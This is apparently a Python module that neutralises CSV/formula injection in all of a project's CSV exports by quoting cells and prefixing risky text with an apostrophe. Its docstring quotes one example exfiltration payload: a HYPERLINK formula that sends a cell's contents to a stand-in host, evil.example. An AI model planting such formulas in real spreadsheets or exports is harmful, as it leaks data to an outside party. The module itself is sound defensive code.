"""Spreadsheet-safe CSV: the one writer behind every CSV file styrdok produces.

A CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice
and Google Sheets (so is one behind a leading tab or carriage return). Text in the register
comes from many people — a requester's scope, a funder's name, a question — and ends up in
exports that administrators open and in open data anyone downloads, so a scope of
``=HYPERLINK("https://evil.example/?"&A1;"Klicka")`` must arrive as text, never as a live
formula ("CSV injection", CWE-1236). As OWASP's *CSV Injection* page advises, every cell is
quoted and a text cell that starts with one of those characters gets a leading ``'``, which
spreadsheets read as "this is text" and do not show.

Every CSV writer in styrdok goes through :func:`writer` (the listings of ``--format csv``,
``export --csv``, the open data of ``export --public``, ``report`` in CSV) or
:func:`excel_writer` (the same in Swedish Excel's dialect: ``--format csv-excel``, ``export
--csv-excel``). Any future writer of spreadsheet files — CSV, TSV, or XLSX/ODS through a
library — must neutralise formulas too: those formats evaluate them just the same (the XLSX
export, :mod:`styrdok.spreadsheets`, stores such text as a text cell marked "quoted").

The JSON export is not touched: it is lossless, and JSON is not evaluated by spreadsheets.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list; NUL as
#: well, which OWASP ASVS 1.2.10 adds).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")

# A plain decimal number written as text ("-40", "18500.00") cannot compute anything, and a
# spreadsheet must still read it as the number it is; ASCII digits only, nothing after them.
# A decimal comma is as plain (Swedish Excel's dialect writes "-40,5").
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?", re.ASCII)


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: text that a spreadsheet would take for
    a formula gets a leading ``'``; everything else is returned as it is.

    Only text is neutralised. Numbers (``int``, ``float``, ``Decimal``) are data, not input
    someone typed, and a negative one (``-5`` days left, a credit) must stay a number that a
    spreadsheet can sum — OWASP's advice concerns text cells. For the same reason text that is
    nothing but a plain number (``"-40"``) is left alone.
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def is_number(value: Any) -> bool:
    """Whether ``value`` is a number a CSV cell should carry as one (``bool`` is not)."""
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def decimal_comma(value: Any) -> Any:
    """A decimal number (``Decimal``, ``float``) as Swedish Excel reads one: ``18500,50``.
    Anything else (whole numbers included) is returned as it is."""
    if isinstance(value, Decimal | float) and not isinstance(value, bool):
        return str(value).replace(".", ",")
    return value


class SafeWriter:
    """A :func:`csv.writer` that quotes every cell and passes each through :func:`safe_cell`.

    Quoting every cell keeps a separator inside a cell from splitting it, so no part of a
    cell can begin a new one — the other half of OWASP's advice.
    """

    def __init__(self, handle: IO[str], *, excel: bool = False) -> None:
        self._out = csv.writer(handle, quoting=csv.QUOTE_ALL, delimiter=";" if excel else ",")
        self._excel = excel

    def writerow(self, cells: Iterable[Any]) -> None:
        """Write one row, each cell made safe (and, in Excel's dialect, decimals with a
        comma)."""
        if self._excel:
            cells = (decimal_comma(cell) for cell in cells)
        self._out.writerow([safe_cell(cell) for cell in cells])


def writer(handle: IO[str]) -> SafeWriter:
    """The CSV writer for ``handle`` (opened with ``newline=""``): comma separated, every
    cell quoted, text that would be a formula neutralised."""
    return SafeWriter(handle)


#: The encoding of Swedish Excel's CSV: UTF-8 with a byte order mark, without which Excel
#: reads the file as Windows-1252 and shows "Ã¥" for "å".
EXCEL_ENCODING = "utf-8-sig"


def excel_writer(handle: IO[str]) -> SafeWriter:
    """The CSV writer in the dialect Excel with Swedish settings opens by double-click:
    semicolon separated (the comma is the decimal sign there), decimals with a comma, every
    cell quoted and formulas neutralised. Open ``handle`` with :data:`EXCEL_ENCODING`."""
    return SafeWriter(handle, excel=True)
